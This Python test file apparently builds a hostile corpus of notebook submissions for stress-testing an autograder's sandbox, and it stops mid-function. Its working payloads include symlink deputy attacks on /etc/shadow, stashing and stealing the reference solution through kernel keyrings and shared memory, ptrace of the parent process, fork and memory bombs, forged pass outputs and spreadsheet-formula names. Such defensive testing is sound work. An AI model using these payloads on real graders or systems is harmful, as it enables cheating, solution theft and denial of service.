"""A second hostile corpus, written by an attacker who has read docs/grading.md (issue item 6).

Seven classes: deputy attacks on what the judge reads from a step folder, kernel objects that
outlive or cross a sandbox, every cap exhausted, every parser fed garbage, identities that
collide or carry control characters, outputs that impersonate or reach out, and evidence
forged where the student's code runs. Each entry says the grade it deserves.

Every payload must prove it ran inside the sandbox (the sandbox clears the environment, so a
guard on an environment variable would never fire): kernel payloads print `FIRED:<tag>` into
their cell (it lands in `executed/`); payloads in the judge's children run inside `accept`
(step 3, which no other step requires) and raise `RuntimeError("FIRED:<tag>: <what happened>")`,
which the judge's verdict quotes on the feedback page. Such an entry deserves every step but 3
(`WITNESSED`). `evidence` names the text the test must find; `fired_in` where it must find it.
"""

from __future__ import annotations

import base64
import copy
import json
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from tests.submissions.corpus import ALL, NONE, Entry, _after, _code, _gid, reference_parts, solved
from tests.submissions.hostile import ESCAPE, Targets

KEY_DESC = "labkit-h2-solution"  # what the writer stores and the reader looks for
SHM_KEY = 0x4C41424B
MQ_NAME = "/labkit-h2-sol"
ABSTRACT = "\0labkit-h2-sol"
IMPERSONATION = "IMPERSONATED-PASS-5e1c"  # stored outputs pretending to be the grader's verdict
FDW = "FDW-MARK-91b2"  # written by the kernel to every fd: must never reach the grader's stdio or --out
FLOOD = "FLOOD-RAW-c4d7"


@dataclass
class Hostile(Entry):
    # Texts that prove the payload ran, each found in this entry's own out/executed or out/feedback;
    # an item that is a tuple is proven by any one of its texts.
    evidence: tuple[str | tuple[str, ...], ...] = ()
    alternatives: tuple[str, ...] = ()  # other statuses the design allows ("malformed" for bounded parsers)
    raw: str = ""  # "symlink:<target>" written instead of a notebook
    extra: dict[str, str] = field(default_factory=dict)


def witnessed(steps: list[str]) -> frozenset[str]:
    """Every step but 3 (which no other step requires), the final one too."""
    return frozenset(s for s in [*steps, "final"] if s != "3")


def _set_step(nb: NotebookNode, part: str, source: str) -> None:
    cell = next(c for c in nb.cells if c.cell_type == "code" and c.source.split("\n", 1)[0].split()[1:2] == [part]
                and c.source.startswith("%%step"))
    cell.source = f"%%step {part}\n{source}"


def _append_step(nb: NotebookNode, part: str, code: str) -> None:
    cell = next(c for c in nb.cells if c.cell_type == "code" and c.source.startswith(f"%%step {part}\n"))
    cell.source = cell.source.rstrip("\n") + "\n\n" + code


def witness(tag: str, payload: str = "def _payload(con):\n    return 'control'\n", every_call: bool = False) -> str:
    """Step 3's source: `accept` runs `payload` in the judge's child and raises what it found."""
    return payload + f"""

_FIRED = None


def accept(con, event):
    global _FIRED
    if _FIRED is None or {every_call!r}:
        try:
            _FIRED = str(_payload(con))
        except BaseException as _e:
            _FIRED = 'payload raised ' + repr(_e)
    raise RuntimeError('FIRED:{tag}: ' + _FIRED[:380])
"""


def kernel_cell(tag: str, body: str) -> NotebookNode:
    """A kernel cell that says it ran before it does anything else, then reports `_r`."""
    return _code(f"print('FIRED:{tag}: started', flush=True)\n_r = []\n{body}\nprint('FIRED:{tag}:', _r, flush=True)")


TRY = """
def _t(name, fn):
    try:
        _r.append(f'{name}=ok:{fn()!r}'[:90])
    except BaseException as _e:
        _r.append(f'{name}={type(_e).__name__}:{getattr(_e, "errno", "")}'[:90])
"""

LIBC = """
import ctypes as _ct, ctypes.util as _ctu, os as _os
_libc = _ct.CDLL(None, use_errno=True)
_libc.syscall.restype = _ct.c_long
def _sys(*args):
    res = _libc.syscall(*args)
    if res == -1:
        raise OSError(_ct.get_errno(), _os.strerror(_ct.get_errno()))
    return res
"""


# --- class 1: deputy attacks on judge-side file access ---------------------------------------------

def _deputy(kind: str, t: Targets) -> str:
    targets = [str(t.root / "checks" / "outbox" / "oracle.py"), "/proc/self/environ", "/proc/self/mem",
               "/etc/shadow", str(t.out / "grades.csv"), str(t.out / ESCAPE),
               str(t.root / "checks" / "outbox" / ESCAPE)]
    replace = {
        "symlink": "os.symlink(_targets[i % len(_targets)], n)",
        "fifo": "os.mkfifo(n)",
        "dir": "os.mkdir(n)",
        "sparse": ("with open(n, 'wb') as f:\n"
                   "                try:\n"
                   "                    f.truncate(2 * 2**30)\n"
                   "                except OSError as e:\n"
                   "                    done.append('2G:' + str(e.errno))\n"
                   "                    f.truncate(255 * 2**20)"),
    }[kind]
    return f"""
def _payload(con):
    import os
    _targets = {targets!r}
    done = []
    if {kind == 'symlink'!r}:
        for _src in _targets[:4]:
            try:
                os.link(_src, 'hard-' + os.path.basename(_src))
                done.append('hardlink ok ' + _src)
            except OSError as e:
                done.append('hardlink ' + str(e.errno))
    for i, n in enumerate(sorted(os.listdir('.'))):
        if n.startswith('hard-') or not (os.path.isfile(n) or os.path.islink(n)):
            continue
        try:
            os.unlink(n)
            {replace}
            done.append(n)
        except OSError as e:
            done.append(n + ':' + str(e.errno))
    return 'cwd=' + os.getcwd() + ' replaced ' + ','.join(done)
"""


# --- class 2: kernel objects -----------------------------------------------------------------------

def _blob(reference: str) -> str:
    return base64.b64encode(zlib.compress(reference.encode())).decode()


STORE = LIBC + TRY + """
_blob = __BLOB__.encode()
_t('add_key user', lambda: _sys(248, b'user', __DESC__.encode(), _blob, len(_blob), -4))
_t('add_key session', lambda: _sys(248, b'user', __DESC__.encode(), _blob, len(_blob), -3))
def _persist():
    ring = _sys(250, 22, -1, -4)  # KEYCTL_GET_PERSISTENT: outlives every process of the uid
    return _sys(248, b'user', __DESC__.encode(), _blob, len(_blob), ring)
_t('add_key persistent', _persist)
def _shm():
    _libc.shmat.restype = _ct.c_void_p
    sid = _libc.shmget(__SHM__, 65536, 0o1000 | 0o666)
    if sid < 0:
        raise OSError(_ct.get_errno(), 'shmget')
    addr = _libc.shmat(sid, None, 0)
    if addr in (None, _ct.c_void_p(-1).value):
        raise OSError(_ct.get_errno(), 'shmat')
    _ct.memmove(addr, _blob + b'\\0', len(_blob) + 1)
    return sid
_t('shm', _shm)
def _msg():
    qid = _libc.msgget(__SHM__, 0o1000 | 0o666)
    if qid < 0:
        raise OSError(_ct.get_errno(), 'msgget')
    buf = _ct.create_string_buffer(8 + 4096)
    _ct.memmove(buf, (1).to_bytes(8, 'little') + _blob[:4096], 8 + min(4096, len(_blob)))
    if _libc.msgsnd(qid, buf, min(4096, len(_blob)), 0o4000) < 0:
        raise OSError(_ct.get_errno(), 'msgsnd')
    return qid
_t('msg', _msg)
_t('sem', lambda: _libc.semget(__SHM__, 1, 0o1000 | 0o666))
def _mq():
    rt = _ct.CDLL(_ctu.find_library('rt') or None, use_errno=True)
    q = rt.mq_open(__MQ__.encode(), _os.O_CREAT | _os.O_RDWR, 0o666, None)
    if q < 0:
        raise OSError(_ct.get_errno(), 'mq_open')
    return rt.mq_send(q, _blob[:4000], min(4000, len(_blob)), 0)
_t('mqueue', _mq)
def _devshm():
    with open('/dev/shm/labkit-h2-sol', 'w') as f:
        f.write(__BLOB__)
    _os.chmod('/dev/shm/labkit-h2-sol', 0o666)
    return 'written'
_t('/dev/shm', _devshm)
def _serve():
    import socket, threading
    s = socket.socket(socket.AF_UNIX)
    s.bind(__ABSTRACT__)
    s.listen(8)
    def loop():
        while True:
            c, _ = s.accept()
            c.sendall(_blob)
            c.close()
    threading.Thread(target=loop, daemon=True).start()
    return 'listening'
_t('abstract socket', _serve)
"""

STEAL = LIBC + TRY + """
import base64 as _b64, zlib as _zl, time as _time
_r = []
_stolen = []
def _keys():
    for ring in (-4, -3):
        try:
            kid = _sys(250, 10, ring, b'user', __DESC__.encode(), 0)  # KEYCTL_SEARCH
            break
        except OSError:
            kid = None
    if kid is None:
        ring = _sys(250, 22, -1, -4)
        kid = _sys(250, 10, ring, b'user', __DESC__.encode(), 0)
    buf = _ct.create_string_buffer(1 << 16)
    n = _sys(250, 11, kid, buf, 1 << 16)  # KEYCTL_READ
    _stolen.append(buf.raw[:n])
    return n
def _shm():
    _libc.shmat.restype = _ct.c_void_p
    sid = _libc.shmget(__SHM__, 0, 0)
    if sid < 0:
        raise OSError(_ct.get_errno(), 'shmget')
    addr = _libc.shmat(sid, None, 0o10000)
    if addr in (None, _ct.c_void_p(-1).value):
        raise OSError(_ct.get_errno(), 'shmat')
    _stolen.append(_ct.string_at(addr))
    return 'attached'
def _msg():
    qid = _libc.msgget(__SHM__, 0)
    if qid < 0:
        raise OSError(_ct.get_errno(), 'msgget')
    return qid
def _mq():
    rt = _ct.CDLL(_ctu.find_library('rt') or None, use_errno=True)
    q = rt.mq_open(__MQ__.encode(), _os.O_RDONLY | _os.O_NONBLOCK)
    if q < 0:
        raise OSError(_ct.get_errno(), 'mq_open')
    return q
def _devshm():
    _stolen.append(open('/dev/shm/labkit-h2-sol', 'rb').read())
    return 'read'
def _connect():
    import socket
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(1)
    s.connect(__ABSTRACT__)
    _stolen.append(s.recv(1 << 20))
    return 'connected'
for _name, _fn in (('keyring', _keys), ('shm', _shm), ('msg', _msg), ('mqueue', _mq), ('/dev/shm', _devshm),
                   ('abstract socket', _connect)):
    _t(_name, _fn)
for _b in _stolen:
    try:
        exec(_zl.decompress(_b64.b64decode(_b)).decode(), globals())
        _r.append('STOLEN ' + 'AND USED')  # built at run time: the cell's source must not match
        break
    except Exception:
        pass
print('FIRED:__TAG__:', _r, flush=True)
"""


def _fill(text: str, reference: str, tag: str = "") -> str:
    return (text.replace("__BLOB__", repr(_blob(reference))).replace("__DESC__", repr(KEY_DESC))
            .replace("__SHM__", str(SHM_KEY)).replace("__MQ__", repr(MQ_NAME))
            .replace("__ABSTRACT__", repr(ABSTRACT)).replace("__TAG__", tag))


PROCS = LIBC + TRY + """
import signal as _sig
_t('kill(1)', lambda: _os.kill(1, 0) or _os.kill(1, _sig.SIGTERM))
_t('kill(-1)', lambda: _os.kill(-1, _sig.SIGTERM))
_t('ptrace parent', lambda: _sys(101, 16, _os.getppid(), 0, 0))  # PTRACE_ATTACH
class _Iov(_ct.Structure):
    _fields_ = [('base', _ct.c_void_p), ('len', _ct.c_size_t)]
def _vm():
    buf = _ct.create_string_buffer(64)
    local, remote = _Iov(_ct.cast(buf, _ct.c_void_p), 64), _Iov(0x400000, 64)
    return _sys(310, _os.getppid(), _ct.byref(local), 1, _ct.byref(remote), 1, 0)  # process_vm_readv
_t('process_vm_readv parent', _vm)
_t('userfaultfd', lambda: _sys(323, 0))
_t('perf_event_open', lambda: _sys(298, None, 0, -1, -1, 0))
_t('bpf', lambda: _sys(321, 0, None, 0))
_t('unshare user ns', lambda: _sys(272, 0x10000000))
_t('/proc/keys', lambda: open('/proc/keys').read()[:60])
_t('/proc/1/environ', lambda: open('/proc/1/environ', 'rb').read()[:60])
_t('mountinfo', lambda: len(open('/proc/self/mountinfo').read()))
"""


# --- class 3: every cap -------------------------------------------------------------------------

FORK_BOMB = TRY + """
import os as _os, time as _time
def _bomb():
    n = 0
    kids = []
    end = _time.time() + 2  # a cell has 5 s: the bomb must hit the cap, not the clock
    while n < 5000 and _time.time() < end:
        try:
            pid = _os.fork()
        except OSError as e:
            return f'fork refused after {n}: errno {e.errno}'
        if pid == 0:
            _time.sleep(2)
            _os._exit(0)
        kids.append(pid)
        n += 1
    return f'{n} forks in 2 s, no cap hit'
_t('fork bomb', _bomb)
"""

MEMORY = TRY + """
def _hog():
    hog = []
    while len(hog) < 64:
        hog.append(__import__('mmap').mmap(-1, 2**28) if hog else bytearray(2**28))
    return f'{len(hog) * 256} MB allocated, no cap'
_t('memory', _hog)
def _shm_fill():
    with open('/dev/shm/fill', 'wb') as f:
        for i in range(1 << 12):
            f.write(b'x' * 2**20)
    return 'filled 4 GB of /dev/shm'
_t('/dev/shm', _shm_fill)
import os as _os
_t('rm', lambda: _os.unlink('/dev/shm/fill'))
"""

# MEMORY touches only its first 256 MB; the rest is reserved, never touched, so the address-space
# limit refuses it at once. Touching ~1 GB took over the 5 s cell time in the kernel under CI's load,
# and ~0.6 s of CPU in every case's process of the judge's child (both seen); the corpus's `hog` and
# tests/test_sandbox.py already touch memory up to the limits. In the judge's child nothing is
# touched: one case's process runs it per case.
CHILD_MEMORY = MEMORY.replace(" if hog else bytearray(2**28)", "")

DISK = TRY + """
import os as _os
def _fill(path, chunks):
    with open(path, 'wb') as f:
        for i in range(chunks):
            f.write(b'x' * 2**20)
    return f'{chunks} MB'
_t('step folder, one file past the size cap', lambda: _fill('big', 300))
_t('rm', lambda: _os.unlink('big'))
_t('/tmp until full', lambda: [_fill(f'/tmp/fill{i}', 200) for i in range(8)])
for _i in range(8):
    _t('rm', lambda: _os.unlink(f'/tmp/fill{_i}'))
"""

FDS_THREADS = TRY + """
import os as _os, threading as _th, time as _time
def _fds():
    fds = []
    try:
        while len(fds) < 10**6:
            fds.append(_os.open('/dev/null', _os.O_RDONLY))
        return f'{len(fds)} fds, no cap'
    except OSError as e:
        return f'refused after {len(fds)}: errno {e.errno}'
    finally:
        for fd in fds:
            _os.close(fd)
_t('fd exhaustion', _fds)
def _threads():
    n = 0
    while n < 100000:
        try:
            _th.Thread(target=_time.sleep, args=(3,), daemon=True).start()
        except RuntimeError as e:
            return f'threads refused after {n}: {e}'
        n += 1
    return f'{n} threads, no cap'
_t('thread bomb', _threads)
"""


# The judge's own words when the cgroup killed its child: the hog ran and the box stopped it
# (what happens when the child's resident memory, not its address space, meets the limit first).
MEMORY_KILLED = "killed by the memory limit"


def _child_payload(body: str) -> str:
    return "def _payload(con):\n    _r = []\n" + "\n".join("    " + line for line in body.splitlines()) + \
        "\n    return ' | '.join(_r)\n"


# --- class 7: evidence made where the student's code runs ----------------------------------------

EXIT_PATCH = """
import os as _os, atexit as _ax, signal as _sg, threading as _th, time as _time
_real_exit = _os._exit
_CONS = []
_real_dispatch = dispatch


def _unmark(*_args):
    for c in _CONS:
        try:
            if c.in_transaction:
                c.execute('ROLLBACK')
            c.execute('UPDATE outbox SET sent = 0')
        except Exception:
            pass


def dispatch(con, send, limit, after_delivery=None):
    _CONS.append(con)
    return _real_dispatch(con, send, limit, after_delivery)


def _exit(code):
    _unmark()
    _real_exit(code)


_os._exit = _exit
_ax.register(_unmark)
_sg.signal(_sg.SIGTERM, lambda *a: (_unmark(), _real_exit(143)))
"""

THREAD_AT_HOOK = """
import threading as _th, time as _time
_real_dispatch = dispatch


def dispatch(con, send, limit, after_delivery=None):
    path = con.execute('PRAGMA database_list').fetchone()[2]

    def hook(event_id):
        def rewrite():
            import sqlite3
            for _ in range(400):
                try:
                    c = sqlite3.connect(path, timeout=0.05, isolation_level=None)
                    c.execute('UPDATE outbox SET sent = 0')
                    c.close()
                except Exception:
                    pass
                _time.sleep(0.005)
        _th.Thread(target=rewrite, daemon=True).start()
        _time.sleep(0.02)
        return after_delivery(event_id)
    return _real_dispatch(con, send, limit, hook if after_delivery is not None else None)
"""

SETSID_HELPER = """
import os as _os, sys as _sys
_real_dispatch = dispatch
_HELPER = r'''
import sqlite3, sys, time
end = time.time() + 20
while time.time() < end:
    try:
        c = sqlite3.connect(sys.argv[1], timeout=0.05, isolation_level=None)
        c.execute('UPDATE outbox SET sent = 0')
        c.close()
    except Exception:
        pass
    time.sleep(0.01)
'''


def _spawn_helper(path):
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execve(_sys.executable, [_sys.executable, '-c', _HELPER, path], {})
        _os._exit(0)
    return 'helper started for ' + path


def dispatch(con, send, limit, after_delivery=None):
    if after_delivery is not None:
        path = con.execute('PRAGMA database_list').fetchone()[2]
        real = after_delivery
        def after_delivery(event_id):
            _spawn_helper(path)
            return real(event_id)
    return _real_dispatch(con, send, limit, after_delivery)
"""

LOG_FORGER = """
import glob as _glob, threading as _th, time as _time
_real_receive = receive
_FORGING = []


def _forge():
    end = _time.time() + 30
    while _time.time() < end:
        for p in _glob.glob('*.jsonl') + _glob.glob('/tmp/*.jsonl') + _glob.glob('../*.jsonl'):
            try:
                with open(p) as f:
                    text = f.read()
                if '"forged-7"' not in text and text:
                    with open(p, 'w') as f:
                        f.write(text.replace('"snack-7"', '"forged-7"').replace('"duplicate"', '"applied"'))
            except OSError:
                pass
        _time.sleep(0.005)


def receive(con, event):
    if not _FORGING:
        _FORGING.append(_th.Thread(target=_forge, daemon=True))
        _FORGING[0].start()
    return _real_receive(con, event)
"""


def _installed(names: str) -> str:
    return ("def _payload(con):\n"
            "    import os, atexit, signal\n"
            f"    return 'installed: ' + {names!r} + ' os._exit=' + repr(os._exit)[:40] + "
            "' sigterm=' + repr(signal.getsignal(signal.SIGTERM))[:40]\n")


# --- class 4: every parser ------------------------------------------------------------------------

DEEP = 100_000


def deep_json(depth: int = DEEP) -> bytes:
    return b"[" * depth + b"]" * depth


def _nb_bytes(nb: NotebookNode) -> bytes:
    return nbformat.writes(nb).encode()


PIPE_DEEP = """
def _payload(con):
    import os
    fd = int(os.environ['LABKIT_RESULT_FD'])
    global _CALLS
    _CALLS = globals().get('_CALLS', 0) + 1
    if _CALLS == 1:
        return 'will write a 100000-deep record on the result pipe at the next call'
    data = b'{"event":"case","case":"x","outcome":' + b'[' * 100000 + b']' * 100000 + b'}\\n'
    with os.fdopen(os.dup(fd), 'wb') as f:
        f.write(data)
    return f'wrote {len(data)} bytes of nesting'
"""

PIPE_LONG = """
def _payload(con):
    import os
    fd = int(os.environ['LABKIT_RESULT_FD'])
    global _CALLS
    _CALLS = globals().get('_CALLS', 0) + 1
    if _CALLS == 1:
        return 'will write a 20 MB line on the result pipe at the next call'
    with os.fdopen(os.dup(fd), 'wb') as f:
        f.write(b'{"event":"note","x":"' + b'A' * (20 * 2**20) + b'"}\\n')
    return 'wrote 20 MB'
"""


# --- the corpus -----------------------------------------------------------------------------------

def build(release: NotebookNode, reference: str, targets: Targets, *, wrong_mark: str) -> list[Hostile]:
    """`wrong_mark`: the wrong solution outbox/mark_before_send (fails steps 7 and final)."""
    parts = reference_parts(reference)
    steps = [p for p in parts if p != "header"]
    wit = witnessed(steps)
    setup = next(_gid(c) for c in release.cells if c.metadata.get("labkit", {}).get("setup"))
    lab = release.metadata["labkit"]["lab"]
    entries: list[Hostile] = []

    def ref() -> NotebookNode:
        return solved(release, parts, ALL)

    def witnessing(tag: str, payload: str, base: NotebookNode | None = None, every_call: bool = False) -> NotebookNode:
        nb = base if base is not None else ref()
        _set_step(nb, "3", witness(tag, payload, every_call))
        return nb

    # --- honest neighbours and the witness's control ------------------------------------------
    entries.append(Hostile("ada", "01-lab.ipynb", ref(), ALL, why="the reference solution (an honest neighbour)"))
    entries.append(Hostile("zz-zed", "01-lab.ipynb", ref(), ALL, why="the reference again, graded last"))
    entries.append(Hostile("wit", "01-lab.ipynb", witnessing("wit", witness.__defaults__[0]), wit,
                           evidence=("FIRED:wit: control",),
                           why="control: step 3 raises what its payload found, every other step is the reference"))

    # --- 1. deputy attacks on judge-side file access -------------------------------------------
    for student, kind, why in (
            ("dee", "symlink", "replaces the judge's DB files with symlinks to checks/<lab>/oracle.py, /proc/self/environ, "
                               "/proc/self/mem, /etc/shadow, --out; hard links to the same"),
            ("fifi", "fifo", "replaces the judge's DB files with FIFOs (the judge must not hang)"),
            ("dora", "dir", "replaces the judge's DB files with directories"),
            ("spar", "sparse", "replaces the judge's DB files with 2 GB sparse files")):
        entries.append(Hostile(student, "01-lab.ipynb", witnessing(student, _deputy(kind, targets), every_call=True),
                               wit, evidence=(f"FIRED:{student}: cwd=",), why=why))

    # --- 2. kernel objects -------------------------------------------------------------------------
    writer = ref()
    writer.cells.insert(next(i for i, c in enumerate(writer.cells) if _gid(c) == setup) + 1,
                        kernel_cell("k1-writer", _fill(STORE, reference)))
    _set_step(writer, "3", witness("k1-writer", _child_payload(_fill(STORE, reference))))
    entries.append(Hostile("k1-writer", "01-lab.ipynb", writer, wit,
                           evidence=("FIRED:k1-writer: add_key", "FIRED:k1-writer: started"),
                           why="stores the reference in the user, session and persistent keyrings, SysV shm/msg/sem, "
                               "a POSIX mqueue, /dev/shm, and serves it on an abstract unix socket, from the "
                               "kernel and from the judge's children"))
    reader = copy.deepcopy(release)
    _append_step(reader, "8", _fill(STEAL, reference, "k9-reader"))
    entries.append(Hostile("k9-reader", "01-lab.ipynb", reader, NONE,
                           evidence=("FIRED:k9-reader: ['keyring=",),
                           why="the release, plus a last step cell that looks for k1-writer's reference in every "
                               "kernel object and execs it (graded after the writer, in the same batch)"))
    pete = ref()
    _after(pete, setup, kernel_cell("pete-kernel", PROCS))
    _set_step(pete, "3", witness("pete", _child_payload(PROCS)))
    entries.append(Hostile("pete", "01-lab.ipynb", pete, wit,
                           evidence=("FIRED:pete: kill(1)", "FIRED:pete-kernel: ["),
                           why="signals pid 1 and -1, ptrace and process_vm_readv of its parent, userfaultfd, "
                               "perf_event_open, bpf, unshare; reads /proc/keys, /proc/1/environ, mountinfo"))

    # --- 3. every cap --------------------------------------------------------------------------------
    forky = ref()
    _after(forky, setup, kernel_cell("forky-kernel", FORK_BOMB))
    _set_step(forky, "3", witness("forky", _child_payload(FORK_BOMB)))
    entries.append(Hostile("forky", "01-lab.ipynb", forky, wit, evidence=("FIRED:forky: fork", "FIRED:forky-kernel: ["),
                           why="a fork bomb in the kernel and in the judge's child"))
    memo = ref()
    _after(memo, setup, kernel_cell("memo-kernel", MEMORY))
    _set_step(memo, "3", witness("memo", _child_payload(CHILD_MEMORY)))
    entries.append(Hostile("memo", "01-lab.ipynb", memo, wit, evidence=(("FIRED:memo: memory", MEMORY_KILLED), "FIRED:memo-kernel: ["),
                           why="allocates until refused and fills /dev/shm, in the kernel and the judge's child"))
    entries.append(Hostile("disky", "01-lab.ipynb", witnessing("disky", _child_payload(DISK)), wit,
                           evidence=("FIRED:disky: step folder",),
                           why="writes past the file-size cap in the step folder and fills /tmp"))
    entries.append(Hostile("fdx", "01-lab.ipynb", witnessing("fdx", _child_payload(FDS_THREADS)), wit,
                           evidence=("FIRED:fdx: fd exhaustion",), why="opens fds until refused, then a thread bomb"))
    busy = ref()
    cell = next(c for c in busy.cells if c.cell_type == "code" and c.source.startswith("%%step header"))
    cell.source += "\n\nif __name__ != '__main__':\n    while True:\n        pass\n"
    entries.append(Hostile("busy", "01-lab.ipynb", busy, NONE, evidence=("did not finish within",),
                           why="a busy loop at import in the judge's children: every step times out at import"))
    flo = ref()
    _after(flo, setup,
           kernel_cell("flo-stdout", f"import os, time\nfor _ in range(50):\n    os.write(1, b'{FLOOD}' * 100_000)"),
           kernel_cell("flo-image", "from IPython.display import display\nimport base64\n"
                                    "display({'image/png': base64.b64encode(b'\\x89PNG' + b'0' * 30_000_000).decode()}, "
                                    "raw=True)"),
           kernel_cell("flo-update", "from IPython.display import display\nimport time\n"
                                     "_h = display({'text/plain': 'x'}, raw=True, display_id=True)\n"
                                     "_end = time.time() + 3\n_n = 0\n"
                                     "while time.time() < _end:\n"
                                     "    _h.update({'text/plain': 'y' * 100_000}, raw=True)\n    _n += 1\n"
                                     "_r.append(_n)"))
    entries.append(Hostile("flo", "01-lab.ipynb", flo, ALL,
                           evidence=("FIRED:flo-stdout: started", "FIRED:flo-image: started", "FIRED:flo-update: started"),
                           why="floods the kernel's raw stdout, a 40 MB image, and update_display for 3 s"))

    # --- 4. every parser -----------------------------------------------------------------------------
    shape = json.loads(nbformat.writes(ref()))
    cells_dict = dict(shape, cells={"0": shape["cells"][0]})
    source_int = copy.deepcopy(shape)
    source_int["cells"][1]["source"] = 5
    old = dict(shape, nbformat=3, nbformat_minor=0)
    deep_reveal = json.dumps(shape).encode()
    marker = b'"outputs": []'
    at = deep_reveal.index(marker)
    deep_reveal = (deep_reveal[:at] + b'"outputs": [{"output_type": "display_data", "data": {}, "metadata": '
                   b'{"labkit": {"revealed": ' + deep_json() + b'}}}]' + deep_reveal[at + len(marker):])
    for student, data, why in (
            ("p-deep", b'{"cells": ' + deep_json() + b', "nbformat": 4}', "a notebook nested 100,000 deep (~200 KB)"),
            ("p-cells-dict", json.dumps(cells_dict).encode(), "cells is a dict"),
            ("p-source-int", json.dumps(source_int).encode(), "a cell's source is an int"),
            ("p-utf8", nbformat.writes(ref()).encode()[:-40] + b"\xff\xfe\xc3\x28" + b"}", "invalid UTF-8"),
            ("p-nbformat3", json.dumps(old).encode(), "nbformat 3"),
            ("p-empty", b"", "a 0-byte notebook"),
            ("p-deep-reveal", deep_reveal, "a reveal output whose tag is nested 100,000 deep")):
        entries.append(Hostile(student, "01-lab.ipynb", None, NONE, status="malformed", data=data, why=why))
    entries.append(Hostile("p-link", "01-lab.ipynb", None, NONE, status="skipped", raw="symlink:/etc/shadow",
                           why="the notebook is a symlink to /etc/shadow"))
    entries.append(Hostile("p-quiz-deep", "01-lab.ipynb", ref(), ALL, alternatives=("malformed",),
                           files={f"work/quiz-{lab}.json": b'{"answers": ' + deep_json() + b"}"},
                           why="quiz-<lab>.json nested 100,000 deep beside the reference"))
    entries.append(Hostile("p-revealed-deep", "01-lab.ipynb", ref(), ALL, alternatives=("malformed",),
                           files={f"work/revealed-{lab}.json": b'{"steps": ' + deep_json() + b"}"},
                           why="revealed-<lab>.json nested 100,000 deep beside the reference"))
    entries.append(Hostile("p-pipe-deep", "01-lab.ipynb", witnessing("p-pipe-deep", PIPE_DEEP, every_call=True), wit,
                           alternatives=("malformed",), evidence=("FIRED:p-pipe-deep: will write",),
                           why="the judge's child writes a 100,000-deep record on its result pipe"))
    entries.append(Hostile("p-pipe-long", "01-lab.ipynb", witnessing("p-pipe-long", PIPE_LONG, every_call=True), wit,
                           alternatives=("malformed",), evidence=("FIRED:p-pipe-long: will write",),
                           why="the judge's child writes a 20 MB line on its result pipe"))

    # --- 5. identity ---------------------------------------------------------------------------------
    for student, nb, deserves, why in (
            ("pat o", ref(), ALL, "slug collides with 'pat_o' and 'pat?o' under a plain replace; the reference"),
            ("pat_o", copy.deepcopy(release), NONE, "the release, beside 'pat o'"),
            ("pat?o", copy.deepcopy(release), NONE, "the release, beside 'pat o'"),
            ("bell\x07\x1b[2J\x1b[31mred\x1b]0;pwned\x07", copy.deepcopy(release), NONE, "BEL, ANSI clear/colour/title"),
            ("\u202eelif.sh", copy.deepcopy(release), NONE, "a bidi override"),
            ("new\nline", copy.deepcopy(release), NONE, "a newline in the folder name"),
            ("L" * 250, copy.deepcopy(release), NONE, "a 250-character name")):
        entries.append(Hostile(student, "01-lab.ipynb", nb, deserves, why=why))

    # --- 6. outputs ----------------------------------------------------------------------------------
    olive = copy.deepcopy(release)
    fake = [nbformat.v4.new_output("stream", name="stdout", text=f"Step passed ✓ all cases passed {IMPERSONATION}"),
            nbformat.v4.new_output("display_data", data={"text/plain": f"Final: 3/3 {IMPERSONATION}",
                                                           "text/html": f"<b>passed {IMPERSONATION}</b>"})]
    for c in olive.cells:
        if c.cell_type == "code":
            c.outputs = copy.deepcopy(fake)
            c.execution_count = 1
    entries.append(Hostile("olive", "01-lab.ipynb", olive, NONE,
                           why="the release with stored outputs on every code cell claiming every check passed"))
    remote = ('<img src="http://127.0.0.1:1/x"> <div style="background:url(http://127.0.0.1:1/css)">c</div>'
              '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:1/go">'
              '<link rel="stylesheet" href="http://127.0.0.1:1/s.css">')
    marky = ref()
    marky.cells.append(nbformat.v4.new_markdown_cell(f"look {remote} ![x](http://127.0.0.1:1/md.png)"))
    marky.cells.append(kernel_cell("marky", f"from IPython.display import HTML, display\ndisplay(HTML({remote!r}))"))
    entries.append(Hostile("marky", "01-lab.ipynb", marky, ALL, evidence=("FIRED:marky: started",),
                           why="markdown and outputs that load remote images, CSS url() and a meta refresh"))
    for student in ("=HYPERLINK(\"http:x\")", "x;=1+2", "y\t=1+2", "@SUM(A1)"):
        entries.append(Hostile(student, "01-lab.ipynb", copy.deepcopy(release), NONE,
                               why="a name that splits into a formula under , ; or tab"))
    printer = ref()
    _after(printer, setup, kernel_cell("printer", "print('x;=1+2\\t=3+4,=5+6 ;@SUM(A1)')"))
    entries.append(Hostile("printer", "01-lab.ipynb", printer, ALL, evidence=("FIRED:printer: started",),
                           why="printed text that splits into formulas"))
    fdw = ref()
    # 'started' in a cell of its own: nbclient runs the next cell only once the kernel has sent
    # this one's output and gone idle, so the loop, which writes over the fds the kernel's IOPub
    # thread sends on, cannot lose the one piece of evidence (a pause did, under CI's load).
    _after(fdw, setup, _code("print('FIRED:fdw: started', flush=True)"), _code(TRY + f"""
_r = []
import os
for _fd in range(256):
    _t(str(_fd), lambda: os.write(_fd, b'\\n{FDW}\\n'))
for _p in os.listdir('/proc/self/fd'):
    _t('/proc/self/fd/' + _p, lambda: open('/proc/self/fd/' + _p, 'wb').write(b'\\n{FDW}\\n'))
print('FIRED:fdw:', _r, flush=True)
"""))
    entries.append(Hostile("fdw", "01-lab.ipynb", fdw, ALL, evidence=("FIRED:fdw: started",), alternatives=("crashed", "timeout"),
                           why="writes a marker to every fd 0..255 and /proc/self/fd/* from the kernel"))

    # --- 7. evidence made where the student's code runs ------------------------------------------------
    wrong = reference_parts(wrong_mark)

    def wrong_nb(extra: str, tag: str, names: str) -> NotebookNode:
        nb = solved(release, wrong, ALL)
        _append_step(nb, "8", extra)
        _set_step(nb, "3", witness(tag, _installed(names)))
        return nb

    for student, extra, names, why in (
            ("exa", EXIT_PATCH, "os._exit patch, atexit, SIGTERM",
             "marks before sending, and un-marks from a patched os._exit, atexit and a SIGTERM handler at the crash"),
            ("thea", THREAD_AT_HOOK, "thread at the hook",
             "marks before sending, and un-marks from a thread it starts as the crash hook is called"),
            ("sid", SETSID_HELPER, "setsid helper", "marks before sending, and a setsid helper without the run marker "
                                                    "keeps un-marking after the hook")):
        entries.append(Hostile(student, "01-lab.ipynb", wrong_nb(extra, student, names), ALL, earns="witnessed-wrong",
                               evidence=(f"FIRED:{student}: installed",), why=why))
    loggy = ref()
